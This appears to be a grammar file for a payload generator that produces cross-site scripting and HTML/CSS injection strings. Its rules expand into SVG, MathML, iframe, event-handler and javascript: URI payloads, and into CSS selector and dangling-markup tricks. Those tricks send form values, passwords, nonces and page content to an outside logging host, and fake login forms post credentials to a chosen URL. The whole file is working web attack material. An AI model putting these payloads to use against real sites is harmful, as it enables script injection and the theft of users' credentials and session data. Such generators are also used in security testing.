xs.svgopen = <svg> <svg> <svg> <svg> <svg> <svg> <svg␠xmlns="http://www.w3.org/2000/svg">
  <svg␠xmlns="http://www.w3.org/2000/svg"> <svg‹xs.sp›‹xs.decoy›> <‹mixed!svg›>
  <svg␠xmlns:xlink="http://www.w3.org/1999/xlink"> <svg␠viewBox="0␠0␠‹#9-999›␠‹#9-999›"> <svg/‹~1-3›> <svg⏎>
xs.svgtag = a animate animateMotion animateTransform circle clipPath defs desc discard ellipse feImage filter foreignObject g handler image line linearGradient listener marker mask metadata mpath path pattern polygon polyline rect set stop style switch symbol text textPath title tref tspan use view
xs.motion: attributeName=‹x¦href¦y¦r¦width¦fill¦transform¦visibility¦xlink:href¦opacity›
  attributeName="‹~1-6›"
  attributename=x
  attributeType=xml attributeName=x
  begin=‹0s¦0¦1s¦click¦accesskey(‹~1›)›
  ‹∅¦fill=freeze ›dur=‹#1-9›s
  to=‹#0-99›
  from=‹#0-99› to=‹#0-99›
xs.svg: 8× <‹svg¦svg¦svg¦SVG¦Svg¦sVg¦svg:svg›‹xs.sp›‹:ev:‹xs.evsvg››‹xs.h›‹xs.end›
  3× <svg‹xs.sp›‹xs.decoy›‹xs.gap›‹:ev:‹xs.evsvg››‹xs.h›‹xs.end›
  <svg><svg‹xs.sp›‹:ev:load›‹xs.h›‹xs.end›
  2× ‹xs.svgopen›<‹=t:‹xs.svgtag››‹xs.sp›‹:ev:‹xs.ev››‹xs.h›‹xs.end›
  4× ‹xs.svgopen›<‹animate¦set¦animateTransform¦animateMotion¦animatetransform¦animation¦discard›‹xs.sp›‹:ev:‹begin¦begin¦end¦repeat››‹xs.h›‹xs.gap›‹×1-3 :‹xs.motion››‹xs.end›
  ‹xs.svgopen›<‹animate¦set›‹xs.gap›‹×1-3 :‹xs.motion››‹xs.gap›‹:ev:‹begin¦end¦repeat››‹xs.h›‹xs.end›
  2× ‹xs.svgopen›<a‹ id=‹~1-3›¦›><‹animate¦set›‹xs.gap›attributeName=‹xlink:href¦href›‹xs.gap›‹values¦to¦from›=‹=o:‹"¦'¦››‹:q:'›‹xs.uri›‹=o›‹ begin=‹#0-9›s¦ dur=‹#1-9›s fill=freeze¦›‹/>¦></animate>¦>›<‹text x=‹#9-99› y=‹#9-99›¦circle r=‹#9-900›¦rect width=‹#99-999› height=‹#99-999››>‹xs.text›
  ‹xs.svgopen›<‹animate¦set› href=#‹=i:‹~1-4›› attributeName=href ‹values¦to›="‹:q:'›‹xs.jsuri›" /><a id=‹=i›><text x=‹#5-40› y=‹#5-40›>‹xs.text›</text></a></svg>
  ‹xs.svgopen›<animate attributeName=on‹xs.ev› to="‹:q:'›‹xs.call›">
  2× ‹xs.svgopen›<a ‹xlink:href¦href¦xml:href¦XLINK:HREF›=‹=o:‹"¦'¦››‹:q:´›‹xs.jsuri›‹=o›‹ ‹~1-4›=‹~1-3›¦›><‹text y=‹#9-99›¦rect width=‹#99-999› height=‹#99-999›¦circle r=‹#99-999››>‹xs.text›</‹text¦a›>
  3× ‹xs.svgopen›<use ‹xlink:href¦href›="data:image/svg+xml‹;utf8¦;charset=utf-8¦›,‹percent!<svg id='‹~1-2›' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='‹xs.base›(‹n›)'/></svg>›#‹~1-2›"‹/>¦></use>›</svg>
  ‹xs.svgopen›<use ‹xlink:href¦href›="data:image/svg+xml;base64,‹b64!<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:‹xs.base›(‹n›)'><rect width='‹#9-99›' height='‹#9-99›'/></a></svg>›#x" /></svg>
  ‹xs.svgopen›<use ‹xlink:href¦href›="//‹host›/‹~1-4›.svg#‹~1-3›"/></svg>
  ‹xs.svgopen›<image ‹xlink:href¦href›=‹xs.src› ‹:ev:‹error¦load››‹xs.h›‹/>¦>›
  ‹xs.svgopen›<feImage ‹xlink:href¦href›="data:image/svg+xml,‹percent!<svg xmlns='http://www.w3.org/2000/svg' onload='‹xs.base›(‹n›)'/>›"/>
  2× ‹xs.svgopen›<foreignObject‹ width=‹#9-999›¦›>‹xs.basic›</foreignObject></svg>
  ‹xs.svgopen›<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="‹:q:'›‹xs.jsuri›"/></foreignObject></svg>
  ‹xs.svgopen›<foreignObject xlink:href="‹:q:'›‹xs.jsuri›"/>
  ‹xs.svgopen›<‹style¦title¦desc¦p¦noscript¦textarea¦xmp¦iframe›>‹xs.basic›
  ‹xs.svgopen›<style><img src="</style>‹xs.basic›">
  ‹xs.svgopen›<style>&lt;/style&gt;&lt;img src=x onerror=‹xs.base›(‹n›)&gt;</style>
  ‹xs.svgopen›<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">‹:q:'›‹xs.call›</handler>
  ‹xs.svgopen›<listener event="load" handler="#‹=i:‹~1-3››"/><handler id="‹=i›">‹:q:'›‹xs.call›</handler>
  <svg xmlns="#"><script>‹:q:'›‹xs.call›</script>
  <svg><‹~1-4›:script xmlns:‹~1-4›="http://www.w3.org/2000/svg" href="data:,‹xs.base›(‹n›)" />
  <svg contentScriptType=text/vbs><script>MsgBox+‹n›
  <svg><![CDATA[><image xlink:href="]]>‹xs.basic›//"></svg>
  <svg></p><style><‹~1› id="</style>‹xs.basic›">
  <svg ‹xmlns:‹~1-3›="‹~1-4›" ¦›‹:ev:load›‹xs.h› ‹xmlns="http://www.w3.org/2000/svg"¦›></svg>
  <x‹ ‹~1-3›¦›><svg/‹:ev:load›‹xs.h›></x>
  <svg/‹:ev:load›‹xs.h›//‹:q:'›‹xs.call›
  <embed src="data:image/svg+xml,‹percent!<svg xmlns='http://www.w3.org/2000/svg' onload='‹xs.base›(‹n›)'/>›">
  ‹xs.svgopen›<text><textPath ‹xlink:href¦href›="‹:q:'›‹xs.jsuri›">‹xs.text›</textPath></text>
  ‹xs.svgopen›<g ‹:ev:‹load¦focusin¦click››‹xs.h› tabindex=‹#0-9›></g></svg>
xs.math: <math‹xs.sp›‹xlink:href¦href¦xml:base¦xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href›="‹:q:'›‹xs.jsuri›"‹xs.end›‹xs.text›
  <math><‹=t:‹mi¦mo¦mn¦mtext¦mrow¦maction¦mstyle¦semantics¦annotation-xml¦‹~1-3›››‹xs.gap›‹xlink:href¦href¦actiontype="statusline#http://‹host›" xlink:href›="‹:q:'›‹xs.jsuri›">‹xs.text›</‹=t›></math>
  <math‹xs.sp›‹:ev:‹xs.evhover››‹xs.h›‹xs.end›‹xs.text›
  <math><‹‹xs.tag›¦brute¦maction›‹xs.sp›‹:ev:‹xs.evhover››‹xs.h›>‹xs.text›
  <math><annotation-xml encoding="text/html">‹xs.basic›</annotation-xml></math>
  <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>‹xs.basic›">
xs.basic: 4× <img src=‹~1› onerror=‹xs.base›(‹n›)>
  2× <svg/onload=‹xs.base›(‹n›)>
  <img src onerror=‹:q:'›‹xs.tight›>
  <svg onload="‹:q:'›‹xs.call›">
  <script>‹:q:'›‹xs.call›</script>
  <iframe onload=‹:q:'›‹xs.tight›></iframe>
  <img/src/onerror=‹xs.base›(document.‹domain¦cookie›)>
  <body onload=‹xs.base›(‹n›)>
  <video><source onerror=‹:q:'›‹xs.tight›></video>
  <details open ontoggle=‹xs.base›(‹n›)>
  <iframe src=javascript:‹xs.base›(‹n›)>
  <input autofocus onfocus=‹:q:'›‹xs.tight›>
  <script src=‹xs.url›></script>
  <‹xs.tag› onmouseover=‹xs.base›(‹n›)>‹xs.text›
  <a href="javascript:‹xs.base›(‹n›)">‹xs.text›</a>
xs.elem: 8× <‹=t:‹xs.t››‹xs.sp›‹xs.pre›‹:ev:‹xs.evhover››‹xs.h›‹xs.end›‹xs.close›
  6× <‹=t:‹xs.t››‹xs.sp›‹xs.pre›‹:ev:‹xs.ev››‹xs.h›‹xs.end›‹xs.close›
  2× <‹=t:‹xs.t››‹xs.sp›‹:ev:‹xs.ev››‹xs.h›‹xs.gap›‹xs.decoy›‹xs.end›‹xs.close›
  <‹=t:‹xs.t››‹xs.sp›‹:ev:‹xs.ev››‹xs.h›‹xs.gap›‹:ev:‹xs.ev››‹xs.h›‹xs.end›‹xs.close›
  5× <‹body¦body¦BODY¦Body¦html¦frameset¦bOdY›‹xs.sp›‹xs.pre›‹:ev:‹xs.evbody››‹xs.h›‹xs.end›
  <body‹xs.sp›‹:ev:scroll‹¦end››‹xs.h›>‹×3-30:<br>›<input autofocus>
  <body‹xs.sp›‹:ev:scroll‹¦end››‹xs.h›><div style=height:‹#1000-9999›px></div><div id=‹~1-3›></div>
  <body ‹:ev:‹hashchange¦popstate¦resize››‹xs.h›><iframe src="#‹~1-3›">
  <body ‹:ev:message›‹xs.h›><script>postMessage(‹n›,'*')</script>
  4× <details‹xs.sp›‹open¦open=""¦open=1›‹xs.gap›‹:ev:toggle›‹xs.h›‹xs.end›
  2× <details‹xs.sp›‹:ev:toggle›‹xs.h›‹xs.gap›open‹xs.end›‹xs.text›
  <details><summary ‹:ev:‹xs.evhover››‹xs.h›>‹xs.text›</summary></details>
  <details id=‹=i:‹~1-4›› ‹:ev:beforetoggle›‹xs.h›><summary>‹xs.text›</summary></details>
  3× <‹marquee¦MARQUEE¦mArQuEe›‹xs.sp›‹¦loop=1 width=0 ¦width=1 loop=1 ¦behavior=alternate ¦direction=‹~2-5› ›‹:ev:‹start¦start¦finish¦bounce››‹xs.h›‹xs.end›‹xs.text›
  <xss‹xs.sp›‹:ev:‹xs.ev››‹xs.h›‹xs.gap›style=‹=o:‹"¦››display:block;‹=o›>‹xs.text›</xss>
  2× <style>@keyframes ‹=k:‹~1-5››{‹¦from{left:0;}to{left:‹#9-999›px;}¦0%{color:red}›}</style><‹=t:‹xs.tag›› style="‹animation-name:‹=k›¦animation:‹#1-9›s ‹=k›¦animation-duration:‹#1-9›s;animation-name:‹=k›;animation-iteration-count:2›" ‹:ev:‹webkit¦›animation‹start¦end¦iteration¦cancel››‹xs.h›‹xs.end›‹xs.close›
  <style>:target{‹color:red¦opacity:0¦transform:rotate(‹#9-180›deg)›}</style><‹=t:‹xs.tag›› id=‹~1-3› style="transition:‹color¦opacity¦all› ‹#1-9›s" ‹:ev:transition‹end¦run¦start¦cancel››‹xs.h›></‹=t›>
  <‹=t:‹xs.tag›› style="transition:‹outline¦color› ‹#1-9›s" tabindex=‹#0-9› ‹:ev:transition‹end¦run¦start››‹xs.h›></‹=t›>
  2× <‹=t:‹xs.tag›› ‹contenteditable¦contenteditable=true¦contenteditable=plaintext-only› ‹:ev:‹beforeinput¦input¦beforecopy¦beforecut¦beforepaste¦paste¦copy¦cut¦blur¦focus¦keydown¦keypress¦keyup¦compositionstart››‹xs.h›>‹xs.text›</‹=t›>
  <‹=t:‹xs.tag›› draggable="true" ‹:ev:drag‹¦start¦end¦enter¦leave¦over››‹xs.h›>‹xs.text›</‹=t›>
  <div draggable=true contenteditable>‹xs.text›</div><‹=t:‹xs.tag›› ‹:ev:‹drop¦dragover¦dragenter››‹xs.h› contenteditable>‹xs.text›</‹=t›>
  <‹=t:‹xs.tag›› hidden=until-found ‹:ev:beforematch›‹xs.h›>‹xs.text›</‹=t›>
  <‹=t:‹xs.tag›› style="content-visibility:auto" ‹:ev:contentvisibilityautostatechange›‹xs.h›></‹=t›>
  <button popovertarget=‹=i:‹~1-4››>‹xs.text›</button><‹=t:‹xs.tag›› popover id=‹=i› ‹:ev:‹before¦›toggle›‹xs.h›>‹xs.text›</‹=t›>
  <button commandfor=‹=i:‹~1-4›› command=show-popover>‹xs.text›</button><div popover id=‹=i› ‹:ev:‹toggle¦command››‹xs.h›></div>
  <dialog ‹open ¦›‹:ev:‹close¦cancel¦toggle››‹xs.h›><form method=dialog><button>‹xs.text›</button></form></dialog>
  <div style="overflow:‹auto¦scroll›;height:‹#9-99›px" ‹:ev:scroll‹¦end¦snapchange››‹xs.h›>‹×3-9:<p>‹~1-4››</div>
  <table ‹:ev:‹xs.evhover››‹xs.h›><td>‹xs.text›
  <menu id=‹=i:‹~1-3›› contextmenu=‹=i› ‹:ev:show›‹xs.h›>‹xs.text›</menu>
  <canvas width=‹#9-999› height=‹#9-999› ‹:ev:‹xs.evhover››‹xs.h›></canvas>
  <‹isindex¦ISINDEX›‹xs.sp›‹type=image src=‹xs.src› ‹:ev:error›‹xs.h›¦action="‹:q:'›‹xs.jsuri›"‹ type=image¦ type=submit›¦‹:ev:‹xs.evhover››‹xs.h›¦formaction="‹:q:'›‹xs.jsuri›" type=submit›‹xs.end›
  <‹bgsound¦layer¦applet¦ilayer¦xml¦comment¦blink¦keygen autofocus›‹xs.sp›‹:ev:‹xs.ev››‹xs.h›‹xs.end›
  <applet code="javascript:‹xs.base›(‹n›)">
  <‹layer¦ilayer› src="‹xs.url›"></layer>
  <xml id=‹=i:‹~1-4››><‹~1-3›><b>&lt;script&gt;‹xs.base›(‹n›)&lt;/script&gt;</b></‹~1-3›></xml><span datasrc=#‹=i› datafld=b dataformatas=html></span>
  <xml id="‹=i:‹~1-4››"><i><b><img src="javas<!-- -->cript:‹xs.base›(‹n›)"></b></i></xml><span datasrc="#‹=i›" datafld="b" dataformatas="html"></span>
  <?xml:namespace prefix=t ns="urn:schemas-microsoft-com:time"><?import namespace=t implementation="#default#time2"><t:set attributeName="innerHTML" to="‹xs.basic›">
  <event-source src="‹xs.url›" ‹:ev:load›‹xs.h›>
  <‹=t:‹xs.t››‹×3-12 :‹xs.decoy››‹xs.gap›‹:ev:‹xs.ev››‹xs.h›‹xs.end›‹xs.close›
xs.focus: 6× <‹input¦input¦textarea¦select¦button¦keygen¦INPUT¦iNpUt›‹xs.sp›‹:ev:‹xs.evfocus››‹xs.h›‹xs.gap›autofocus‹xs.end›
  3× <‹input¦textarea¦select¦button›‹xs.sp›autofocus‹xs.gap›‹:ev:‹xs.evfocus››‹xs.h›‹xs.end›
  2× <‹=t:‹xs.tag›› ‹id=‹~1-3› ¦›tabindex=‹#0-9› autofocus ‹:ev:‹xs.evfocus››‹xs.h›‹xs.end›‹xs.close›
  2× <‹=t:‹xs.tag›› id=‹=i:‹~1-3›› tabindex=‹#0-9› ‹:ev:‹xs.evfocus››‹xs.h›></‹=t›>‹#‹=i›¦›
  <‹=t:‹xs.tag›› contenteditable autofocus ‹:ev:‹xs.evfocus››‹xs.h›></‹=t›>
  <‹=t:‹xs.tag›› ‹:ev:‹blur¦focusout¦deactivate¦beforedeactivate››‹xs.h› tabindex=‹#0-9› id=‹~1-3›></‹=t›><input autofocus>
  <input ‹:ev:‹blur¦focusout››‹xs.h› autofocus><input autofocus>
  <a href=# autofocus ‹:ev:focus›‹xs.h›>‹xs.text›</a>
  <input type="‹text¦search¦email¦hidden¦number¦tel¦checkbox¦radio¦range¦date¦color¦file¦password¦submit¦reset¦button›" ‹value="‹word›" ¦›‹:ev:‹focus¦change¦input¦search¦click¦select¦invalid¦beforeinput¦keydown¦paste¦contentvisibilityautostatechange››‹xs.h›‹ autofocus¦›‹xs.end›
  <input type=hidden accesskey=‹^1› ‹:ev:click›‹xs.h›>
  <link rel=canonical accesskey=‹^1› ‹:ev:click›‹xs.h›>
  <form><‹input¦textarea¦select› required ‹:ev:invalid›‹xs.h›><‹input type=submit¦button›>
  <form ‹:ev:‹submit¦reset¦formdata¦focusin¦beforeinput¦input¦change››‹xs.h›><input‹ type=‹submit¦reset›¦ autofocus›>
  <form id=‹=i:‹~1-4›› ‹:ev:‹submit¦formdata››‹xs.h›><button form=‹=i›>‹xs.text›</button></form>
  <select ‹:ev:‹change¦input¦focus››‹xs.h› autofocus><option>‹n›<option>‹n›</select>
  <select autofocus‹xs.gap›size=‹#1-9› ‹:ev:focus›‹xs.h›>
  <label for=‹=i:‹~1-4›› ‹:ev:‹xs.evhover››‹xs.h›><input id=‹=i›></label>
  <fieldset disabled><legend tabindex=0 autofocus ‹:ev:focus›‹xs.h›></legend></fieldset>
  <output name="‹~1-5›" ‹:ev:click›‹xs.h›>‹xs.text›</output>
  <textarea ‹:ev:‹xs.evfocus››‹xs.h› autofocus>‹xs.text›</textarea>
  <svg><a‹ tabindex=‹#0-9›¦› autofocus ‹:ev:‹focus¦focusin››‹xs.h›>
  <iframe tabindex=0 autofocus ‹:ev:focus›‹xs.h›></iframe>
xs.frame: 4× <‹iframe¦iframe¦IFRAME¦iFrame¦ifRaMe›‹xs.sp›src‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›‹xs.end›
  2× <iframe‹xs.sp›src="‹:q:'›‹xs.uri›"></iframe>
  4× <iframe‹xs.sp›‹xs.pre›‹:ev:‹xs.evframe››‹xs.h›‹xs.end›
  <iframe src=‹xs.src› ‹:ev:‹xs.evframe››‹xs.h›></iframe>
  3× <iframe‹xs.sp›srcdoc‹xs.eq›"<script>‹:q:'›‹xs.call›</script>"‹xs.end›
  2× <iframe srcdoc='‹xml!‹xs.basic››'‹xs.end›
  2× <iframe srcdoc="‹entity!‹xs.tiny››"></iframe>
  <iframe srcdoc=‹entityHex!<script>‹xs.base›(‹n›)</script>›>
  <iframe srcdoc=&lt;svg/o&#x6e;load&equals;‹xs.base›&lpar;‹n›)&gt;>
  <iframe srcdoc="‹×1-4:<‹~1-4›>›‹xs.tiny›">
  <iframe ‹name="‹:q:'›‹xs.call›" ¦sandbox="allow-scripts allow-same-origin" ¦width=‹#0-9› height=‹#0-9› ¦style="‹display:none¦position:fixed;width:100%;height:100%;top:0;left:0;border:0›" ›src="‹:q:'›‹xs.jsuri›"></iframe>
  <iframe name=‹xs.base›(‹n›) src="javascript:eval(name)"></iframe>
  <iframe src="‹xs.url›" ‹:ev:load›‹xs.h›></iframe>
  <iframe src='jAvAsCripT:‹:q:"›‹xs.call›'></iframe>
  <iframe src="‹/¦.¦‹~2-5››" ‹:ev:load›‹:q:'›onload="contentWindow.‹alert(‹n›)¦eval('‹xs.base›(‹n›)')¦document.write('‹xs.tiny›')›">
  <iframe src=//‹host› style=opacity:0;position:absolute;top:0;left:0;width:100%;height:100%>
  <iframe src=mhtml:http://‹host›/‹~1-4›.html!‹~1-4›.html></iframe>
  <iframe src="\\‹ip›\‹~1-4›"></iframe>
  3× <‹object¦OBJECT¦oBjEct›‹xs.sp›data‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›‹xs.end›
  <object‹xs.sp›data="‹xs.url›"‹ type="text/html"¦ type=‹application/x-shockwave-flash¦image/svg+xml¦text/x-scriptlet›¦›></object>
  <object ‹:ev:‹load¦error¦focus¦click››‹xs.h› ‹data=‹xs.src›¦type=‹image¦text/html›¦tabindex=1›></object>
  <object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value="‹:q:'›‹xs.jsuri›"></object>
  <object><param name="‹src¦code¦movie¦data¦url¦allowscriptaccess›" value="‹:q:'›‹xs.uri›"></param></object>
  <object allowscriptaccess=always data=//‹host›/‹~1-4›.swf>
  <object type="text/x-scriptlet" data="‹xs.url›"></object>
  3× <‹embed¦EMBED¦eMbed›‹xs.sp›‹src¦code¦SRC›‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›‹xs.end›
  <embed‹xs.sp›src=‹xs.url›‹ allowscriptaccess=always¦ type="image/svg+xml"¦ type="application/x-shockwave-flash"¦›‹xs.end›
  <embed ‹:ev:‹load¦error¦focus¦click››‹xs.h› ‹src=‹xs.src›¦code=‹xs.src›¦tabindex=1 autofocus›>
  <embed src=/‹~2-6›/‹player¦flowplayer¦‹~2-8››.swf?‹~2-8›=‹\"))}catch(e){‹xs.base›(‹n›)}//¦javascript:‹xs.base›(‹n›)¦"]);‹xs.base›(‹n›)//›>
  <frameset><frame src="‹:q:'›‹xs.uri›"></frameset>
  <frameset ‹:ev:‹load¦focus¦resize¦pageshow››‹xs.h›>
  <frame src="‹:q:'›‹xs.jsuri›">
  <portal src="‹:q:'›‹xs.uri›" ‹:ev:‹click¦load››‹xs.h›>
  <fencedframe src=‹xs.url›></fencedframe>
xs.link: 4× <‹a¦a¦A¦area›‹xs.sp›‹href¦HREF¦hRef›‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›‹xs.end›‹xs.text›‹</a>¦›
  3× <a href="‹:q:'›‹xs.jsuri›"‹ target=_blank¦ target=‹~1-4›¦ rel=‹~2-6›¦ class="‹~2-6›"¦ ‹xs.decoy›¦›>‹xs.text›</a>
  <a href='‹:q:"›‹xs.jsuri›'>‹xs.text›</a>
  <a ‹~1-4› href=‹xs.scheme›‹xs.base›(‹n›)>‹xs.text›
  <a href="‹xs.scheme›‹xs.coat›">‹xs.text›</a>
  <a href="#" ‹:ev:‹xs.evhover››‹xs.h›>‹xs.text›</a>
  <a href="//‹host›" ping="‹xs.url›" ‹:ev:click›‹xs.h›>‹xs.text›</a>
  <a‹⇥¦⏎¦/¦ ›href='&#106;&#97;vascript:‹xs.base›&#40;‹n›&#41;'>‹xs.text›</a>
  <a href="‹~1›:‹xs.base›(‹n›)" id="‹=i:‹~2-5››">‹xs.text›</a><script>eval(‹=i›+'')</script>
  <a href=javas&#99;ript:‹xs.base›(‹n›)>‹xs.text›
  <a href="javascript:'<script>‹xs.base›(‹n›)</script>'">‹xs.text›</a>
  <a download href="‹:q:'›‹xs.datauri›">‹xs.text›</a>
  2× <form‹xs.sp›action‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›><‹input‹xs.gap›type=‹submit¦image›¦button›‹ value=‹xs.text›¦›>
  3× <form>‹¦<input>›<‹button¦input type=submit¦input type=image¦BUTTON›‹xs.sp›formaction‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›>‹xs.text›‹</button>¦›
  <form id=‹=i:‹~1-5››></form><button form=‹=i› formaction="‹:q:'›‹xs.jsuri›">‹xs.text›
  <form action="‹xs.url›"‹ method=post¦›><input name="‹col›"><input ‹type=password ¦›name=password><input type=submit value="‹Login¦Sign in¦Continue›"></form>
  </form><form action=‹xs.url›>
  <button type=submit formaction="‹xs.url›" form="‹~2-8›">‹xs.text›</button>
  <input type=submit formaction="‹:q:'›‹xs.jsuri›" value=‹xs.text›>
  3× <meta‹xs.sp›http-equiv‹xs.eq›‹=o:‹"¦'¦››‹refresh¦Refresh¦REFRESH›‹=o›‹xs.gap›content‹xs.eq›‹=o:‹"¦'››‹#0-9›‹;url=¦; url=¦;URL=¦,¦;›‹:q:´›‹‹xs.uri›¦‹xs.url››‹=o›‹xs.end›
  <meta content="‹#0-9›;url=‹:q:'›‹xs.uri›" http-equiv=refresh>
  <meta http-equiv="‹Set-Cookie¦set-cookie›" content="‹xs.key›=‹~2-8›&lt;script&gt;‹xs.base›(‹n›)&lt;/script&gt;">
  <meta http-equiv=Link content="<‹xs.url›>; rel=stylesheet">
  <meta charset="‹utf-7¦x-user-defined¦ISO-2022-JP¦x-imap4-modified-utf7›">+ADw-script+AD4-‹xs.base›(‹n›)+ADw-/script+AD4-
  <meta http-equiv="content-type" content="text/html; charset=‹utf-7¦utf-16¦hz-gb-2312›">‹+ADw-script+AD4-‹xs.base›(‹n›)+ADw-/script+AD4-¦‹xs.basic››
  <meta name="language" content="‹#0-9›;‹xs.url›" http-equiv="refresh"/>
  2× <base‹xs.sp›href‹xs.eq›‹=o:‹"¦'¦››‹‹xs.url›¦javascript:‹xs.base›(‹n›)//¦‹xs.jsuri››‹=o›‹xs.end›
  <base href="‹xs.url›"><a href="‹~1-3›">‹xs.text›</a>
  <base href="javascript:/a/-‹xs.base›(‹n›)///////"><a href=../‹~1-5›/‹~1-3›.html>‹xs.text›</a>
  <base target="<script>‹xs.base›(‹n›)</script>"><a href="javascript:name">‹xs.text›</a>
  <link‹xs.sp›rel‹xs.eq›‹=o:‹"¦››import‹=o›‹xs.gap›href‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹‹xs.url›¦‹xs.uri››‹=o›‹xs.end›
  <link‹xs.sp›rel‹xs.eq›‹stylesheet¦preload¦manifest¦prefetch¦modulepreload¦prerender›‹xs.gap›href‹xs.eq›‹=o:‹"¦'¦››‹:q:´›‹xs.uri›‹=o›‹xs.end›
  <link rel=import href="data:text/html&comma;&lt;script&gt;‹xs.base›&lpar;‹n›&rpar;&lt;&sol;script&gt;">
  <link rel="import" href="/‹~2-6›?‹~1-3›=<script>‹xs.base›(‹n›)</script>">
  <xml src="‹xs.url›">
  <area href="‹:q:'›‹xs.jsuri›">
xs.style: <style>@import‹xs.sp›‹=o:‹'¦"››‹‹xs.url›¦javascript:‹xs.base›(‹n›)¦data:,*%7bx:expression(‹xs.base›(‹n›))%7D›‹=o›;</style>
  <style>@import url(‹xs.url›);</style>
  <style>‹*¦body¦li¦.‹~2-5››{‹‹list-style-image¦background¦background-image¦content¦cursor›:url(‹=o:‹"¦'¦››javascript:‹xs.base›(‹n›)‹=o›)¦‹behavior¦-moz-binding›:url(‹xs.url›‹¦#‹~2-5››)›}</style>‹¦<ul><li>‹xs.text››
  <‹=t:‹div¦span¦img¦b¦p¦x¦‹xs.tag›››‹xs.gap›style=‹=o:‹"¦'››‹‹width¦color¦x¦xss¦‹~1-5››:‹xs.expr›(‹:q:´›‹xs.call›)¦background‹¦-image›:url(javascript:‹xs.base›(‹n›))¦‹~1-5›:‹~1-4›;behavior:url(‹xs.url›)¦-moz-binding:url(‹xs.url›#‹~2-5›)¦-o-link:'javascript:‹xs.base›(‹n›)';-o-link-source:current¦list-style:url('javascript:‹xs.base›(‹n›)')›‹=o›‹xs.end›
  <img style="xss:expr/*‹~2-5›*/ession(‹xs.base›(‹n›))">
  exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(‹xs.base›("‹~2-5›"))'>
  <style>.‹=i:‹~2-6››{background-image:url("javascript:‹xs.base›('‹~2-5›')");}</style><a class=‹=i›></a>
  <style type="text/css">BODY{‹~1-5›:‹xs.expr›(‹:q:'›‹xs.call›)}</style>
  <style>*{x:ｅｘｐｒｅｓｓｉｏｎ(‹xs.base›(‹n›))}</style>
  <style>@im\port'\ja\vasc\ript:‹xs.base›("‹~2-5›")';</style>
  <style>img{background-image:url('javascript:‹xs.base›(‹n›)')}</style>
  <style type="text/javascript">‹xs.base›('‹~2-6›');</style>
  <style>{font-family:'<iframe/onload=‹xs.base›(‹n›)>'}</style>
  <style>a{}</style/>‹xs.basic›
  <link rel=stylesheet href="data:text/css,*%7bx:expression(‹xs.base›(‹n›))%7d">
  <style>@charset "utf-7";</style>‹xs.basic›
  <‹div¦b› style="‹entity!‹width¦‹~1-4››:expression(‹xs.base›(‹n›))›">
  <div style="\000062inding:url(‹xs.url›)">
  <div style="b\65h\0061vior:url(‹xs.url›)">
xs.expr = expression expression EXPRESSION eXpReSsIoN expr/**/ession exp\ression ex\pression e\0078pression expre\73sion expressio\6e
xs.css: 3× <style>input[‹name=‹=o:‹"¦››‹xs.key›‹=o›¦type=password›][value^=‹=oo:‹"¦››‹*1-4›‹=oo›]‹¦~*¦+*›{‹background¦background-image¦list-style›:url(‹xs.url›?‹~1-4›=‹*1-4›)}</style>
  <style>‹×2-6:input[name="‹xs.key›"][value^="‹*1-3›"]{background:url(//‹host›/‹*1-3›)}›</style>
  <style>@font-face{font-family:‹=i:‹~1-6››;src:url(‹xs.url›?‹~1›);unicode-range:U+00‹%2›}‹#‹~2-6›¦body¦*›{font-family:‹=i›}</style>
  <style>@import url('‹xs.url›?len=‹#1-32›')</style>
  <style>:has(input[name=‹xs.key›][value*=‹~1-3›]){--‹~1-3›:url(‹xs.url›)}</style>
  <style>html:has(meta[name="‹xs.key›"][content^="‹*1-3›"]){background:url(‹xs.log›‹*1-3›)}</style>
  <style>script[nonce^=‹*1-3›]{display:block;background:url(‹xs.log›‹*1-3›)}</style>
  }‹*¦body¦a[href^="‹~2-6›"]›{background:url(‹xs.url›)}‹.‹~1-3›{¦¦/*›
  ;}input[value^="‹*1-4›"]{background:url(‹xs.url›);
  </style><style>input[name=‹col›][value^=‹~1-2›]{background-image:url(‹xs.url›)}
  ‹red¦‹#1-99›px¦none¦inherit›;}@import '‹xs.url›';{
  x;-moz-binding:url(‹xs.url›#‹~2-5›)
  #‹%6›;behavior:url(‹xs.url›)
  ‹#1-99›px;width:‹xs.expr›(‹:q:'›‹xs.call›)
  red;}</style>‹xs.basic›
  <div style="background:url(‹xs.url›);position:fixed;top:0;left:0;width:‹#99-9999›px;height:‹#99-9999›px;z-index:‹#99-99999›">
  <style>#‹~2-6›::-webkit-scrollbar{background:url(‹xs.url›)}#‹~2-6›{overflow-y:auto;height:‹#9-99›px}</style>
  %0a{}*{background:url(‹xs.url›)}
  {}*{xss:expression(‹xs.base›(‹n›))}
xs.dangling: <img src='‹xs.log›
  <img src="‹xs.log›
  <img src=‹'¦"›‹xs.url›‹?¦#›
  "><img src='‹xs.log›
  '><img src="‹xs.log›
  <a href='‹xs.log›
  <a href="‹xs.url›"><font size=‹#20-200› color=red>‹xs.text›</font></a><base target='
  "><base target='
  <base href='‹xs.url›
  <form action=‹xs.url›><textarea name=‹~1-3›>
  <form action='‹xs.url›'><input type=submit><textarea>
  <form action=‹xs.url›><button>‹xs.text›</button><select name=‹~1-3›><option>
  "><form action=‹xs.url›><input type=submit id=‹~1-3›><input name=‹~1-3› value='
  <meta http-equiv=refresh content='0;url=‹xs.log›
  <meta http-equiv="refresh" content='0; url=‹xs.log›
  <link rel=stylesheet href='‹xs.log›
  <style>@import//‹host›?
  <style>@import'‹xs.log›
  <table background='//‹host›?‹~1-3›=
  <iframe src='‹xs.log›
  <iframe name='
  <object data='‹xs.log›
